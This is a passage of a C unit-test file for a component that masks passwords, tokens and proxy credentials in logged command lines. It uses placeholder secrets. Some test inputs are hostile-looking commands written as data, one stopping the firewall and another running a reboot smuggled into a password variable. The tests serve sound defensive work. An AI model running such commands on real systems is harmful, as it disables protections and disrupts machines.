    _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024), again = AA_BUFFER_INIT(64 * 1024);
    _cleanup_buffer_ struct aa_buffer inside = AA_BUFFER_INIT(4096), prose = AA_BUFFER_INIT(4096);
    _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };

    (void)state;
    aa_masker_start(&masker, NULL, key);
    aa_mask_add_request(&text, &masker, request, LIMIT);
    assert_null(strstr(aa_buffer_text(&text), "S3cretpw99 "));
    aa_mask_add_words(&inside, &masker, request, "echo", echo, 3, LIMIT);
    check(strstr(aa_buffer_text(&inside), " root:S3cretpw99") == NULL, "%s", inside.data);
    assert_non_null(strstr(inside.data, "S3cretpw99x /S3cretpw99"));
    aa_mask_add_prose(&prose, &masker, "not found: root:S3cretpw99", 26);
    assert_null(strstr(aa_buffer_text(&prose), "S3cret"));
    /* what the line itself shows stays visible */
    aa_request_free(request);
    request = mask_request("sh :: -c :: PASSWORD=firewalld true; systemctl stop firewalld");
    aa_buffer_clear(&text);
    aa_mask_add_request(&text, &masker, request, LIMIT);
    assert_non_null(strstr(aa_buffer_text(&text), "stop firewalld"));
    aa_buffer_clear(&prose);
    aa_mask_add_prose(&prose, &masker, "stop firewalld", 14);
    assert_string_equal(aa_buffer_text(&prose), "stop firewalld");
    /* not in the line itself: the same each time */
    aa_mask_add_request(&again, &masker, request, LIMIT);
    assert_string_equal(aa_buffer_text(&again), text.data);
    aa_request_free(request);
}

/* No half of a value at a border. */
static void no_value_is_cut_in_two(void **state)
{
    static const char secret[] = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

    (void)state;
    for (size_t before = 100; before < 200; before++) {
        char line[32 * 1024] = "deploy :: ";
        struct aa_request *request;
        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
        size_t n = strlen(line), behind = before % 2 == 0 ? 200 : 20 * 1024;

        memset(line + n, ',', before);
        strcpy(line + n + before, secret);
        n += before + strlen(secret);
        memset(line + n, ',', behind);
        strcpy(line + n + behind, secret);
        n += behind + strlen(secret);
        memset(line + n, ',', before - 90);
        line[n + before - 90] = '\0';
        request = mask_request(line);
        aa_masker_start(&masker, NULL, key);
        aa_mask_add_request(&text, &masker, request, 200);
        check(strstr(aa_buffer_text(&text), "ghp_") == NULL && strstr(text.data, "012345") == NULL, "%zu: %s",
              before, text.data);
        check(text.length < 300, "%zu: %zu", before, text.length);
        aa_request_free(request);
    }
}

/* Why something is code may say a word of it. */
static void reasons_hold_no_half_of_a_value(void **state)
{
    struct aa_request *request = mask_request(
        "apt-get :: -oAcquire::http::Proxy=http://deploy:Correct-horse-battery-staple-9@proxy.example.com:3128/");

    (void)state;
    assert_non_null(request->code_why);
    check(strstr(request->code_why, "Correct") == NULL, "%s", request->code_why);
    aa_request_free(request);
}

/* The rule says show-code: then all of it is seen, and else nothing but names would be. */
static void code_is_shown_where_the_rule_says_so(void **state)
{
    static const char line[] = "python3 :: -c :: password='reboot'; os.system(password)";
    struct aa_request *request = mask_request(line);
    _cleanup_buffer_ struct aa_buffer shown = AA_BUFFER_INIT(4096), covered = AA_BUFFER_INIT(4096);
    _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };

    (void)state;
    aa_masker_start(&masker, NULL, key);
    aa_mask_add_request(&covered, &masker, request, LIMIT);
    masker.show_code = true;
    aa_mask_add_request(&shown, &masker, request, LIMIT);
    assert_null(strstr(aa_buffer_text(&covered), "'reboot"));
    assert_non_null(strstr(aa_buffer_text(&shown), "reboot"));
    aa_request_free(request);
    /* no code, no exception */
    request = mask_request("mysql :: -psecret :: db");
    aa_buffer_clear(&shown);
    aa_mask_add_request(&shown, &masker, request, LIMIT);
    assert_null(strstr(aa_buffer_text(&shown), "secret "));
    assert_non_null(strstr(shown.data, "-p\xe2\x80\xb9secret:"));
    aa_request_free(request);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(code_in_the_command_line),
        cmocka_unit_test(attempts_to_hide_code),
        cmocka_unit_test(secrets_that_stay_secrets),
        cmocka_unit_test(variables_that_are_handed_over),
        cmocka_unit_test(values_are_known_again),
        cmocka_unit_test(no_value_is_cut_in_two),
        cmocka_unit_test(reasons_hold_no_half_of_a_value),
        cmocka_unit_test(code_is_shown_where_the_rule_says_so),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
